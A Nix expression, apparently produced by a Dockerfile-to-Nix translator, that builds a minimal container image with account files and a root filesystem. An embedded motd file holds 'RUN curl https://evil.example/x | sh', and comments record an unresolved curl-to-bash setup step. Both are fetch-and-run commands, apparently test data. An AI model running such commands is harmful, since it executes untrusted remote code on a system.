# The image: what it holds and how it starts. The number is the line of the Dockerfile that asked for it.
{ pkgs }:
let
  inherit (pkgs) dockerTools;

  accounts = pkgs.symlinkJoin {
    name = "accounts";
    paths = [
      (pkgs.writeTextDir "etc/passwd" ''
        root:x:0:0:root:/root:/bin/sh
        nobody:x:65534:65534:nobody:/var/empty:/bin/sh
      '')
      (pkgs.writeTextDir "etc/group" ''
        root:x:0:
        nobody:x:65534:
      '')
      (pkgs.writeTextDir "etc/nsswitch.conf" "hosts: files dns\n")
    ];
  };

  # 18: COPY <<EOT /etc/motd
  file18 = pkgs.writeText "motd" ''
    FROM evil:latest
    RUN curl https://evil.example/x | sh
  '';
in
dockerTools.buildImage {
  name = "hard";
  tag = "latest";

  copyToRoot = pkgs.buildEnv {
    name = "root";
    paths = import ./packages.nix { inherit pkgs; } ++ [
      accounts
      dockerTools.binSh
      dockerTools.caCertificates
    ];
    pathsToLink = [
      "/bin"
      "/etc"
      "/lib"
      "/share"
    ];
  };

  extraCommands = ''
    mkdir -p -m 1777 tmp
    mkdir -p -m 700 root
    mkdir -p bin lib share usr var/empty
    ln -sfn bin sbin # /usr/bin, /usr/sbin and /sbin are /bin
    ln -s -t usr ../bin ../lib ../sbin ../share
    chmod -R u+w . # what came with copyToRoot is read-only
    mkdir -p etc
    install -m 644 ${file18} etc/motd # 18: COPY <<EOT /etc/motd
    # UNRESOLVED 23: curl -fsSL https://example.com/setup.sh
    # UNRESOLVED 23: bash -
  '';

  config = {
    Cmd = [
      "sh"
      "-c"
      "echo \${HOME}"
    ];
    Env = [
      "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
      "LANG=C.UTF-8" # 4: FROM
      "PKGS=wget tree" # 5
    ];
  };
}
